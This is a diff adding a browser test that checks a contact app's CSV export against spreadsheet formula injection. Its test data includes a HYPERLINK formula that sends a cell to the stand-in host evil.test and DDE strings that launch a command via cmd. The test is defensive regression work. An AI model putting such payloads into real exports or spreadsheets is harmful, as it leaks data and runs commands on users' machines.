@@ -1,5 +1,7 @@
 // Issue 15 in Chromium: the import page (paste, map the header row, dry-run report, run) and the
-// erase confirmation on the prospect page, with screenshots in test-artifacts/screenshots/.
+// erase confirmation on the prospect page, with screenshots in test-artifacts/screenshots/; and the
+// prospects' Download CSV with formula-like names (issue 36 item 13).
+import fs from "node:fs";
 import { afterAll, beforeAll, expect, it } from "vitest";
 import { DEMO_CONTACTS } from "../../src/demo/seed-base.ts";
 import { type BrowserHarness, callApi, startBrowserHarness } from "../support/browser.ts";
@@ -80,5 +82,44 @@ describeBrowser("browser: prospect data (import mapping, dry run, erase confirma
     await h.page.goto(`/contacts/${DEMO_CONTACTS[1].contact_id}`);
     await h.page.getByRole("heading", { name: DEMO_CONTACTS[1].full_name }).waitFor();
     expect(await h.page.getByTestId("erase-open").count()).toBe(0);
+  });
+
+  it("Download CSV exports formula-like names as text (issue 36 item 13)", async () => {
+    const nasty = [
+      '=HYPERLINK("http://evil.test/?d="&A1)',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)",
+      "=1+1",
+    ];
+    const csv = [
+      "email,first,last",
+      ...nasty.map((n, i) => `csvinj${i}@example.net,"${n.replaceAll('"', '""')}",X`),
+    ];
+    const r = await callApi(h, "bt_demo_revops", "POST", "/api/v1/imports", {
+      csv: csv.join("\n"),
+      mapping: { email: "email", first_name: "first", last_name: "last" },
+      legal_basis: "legitimate_interest",
+    });
+    expect(r.counts.created).toBe(nasty.length);
+    const page = h.page;
+    await h.signInAs("revops");
+    await page.goto("/contacts");
+    await page.getByLabel("Name or email starts with").fill("csvinj");
+    await page.getByRole("button", { name: "Search" }).click();
+    await page.getByTestId("contacts").getByText("csvinj4@example.net").waitFor();
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      page.getByTestId("csv-contacts").click(),
+    ]);
+    const lines = fs
+      .readFileSync((await download.path())!, "utf8")
+      .trimEnd()
+      .split("\r\n")
+      .slice(1);
+    expect(lines).toHaveLength(nasty.length);
+    // every name cell starts with a quote inside quotes: a spreadsheet shows it, never runs it
+    for (const line of lines) expect(line.startsWith(`"'`)).toBe(true);
+    expect(lines.some((l) => l.startsWith(`"'=HYPERLINK(""http://evil.test/?d=""&A1) X`))).toBe(true);
   });
 });
